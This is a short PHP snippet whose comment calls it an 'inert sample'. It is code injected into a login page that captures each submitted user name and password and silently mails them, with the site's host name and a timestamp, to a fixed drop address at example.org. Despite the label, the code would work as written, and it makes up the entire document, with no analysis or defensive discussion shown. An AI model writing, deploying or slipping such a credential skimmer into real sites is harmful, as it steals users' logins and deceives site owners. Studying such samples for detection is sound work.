<?php
// inert sample: lines added to a login page that mail every posted user name and password, with
// the site's name, to a fixed address before the login goes on
if (isset($_POST['log'], $_POST['pwd'])) {
    $line = date('c') . ' ' . $_SERVER['HTTP_HOST'] . ' ' . $_POST['log'] . ':' . $_POST['pwd'] . "\n";
    @mail('drop-box@example.org', 'login ' . $_SERVER['HTTP_HOST'], $line);
}
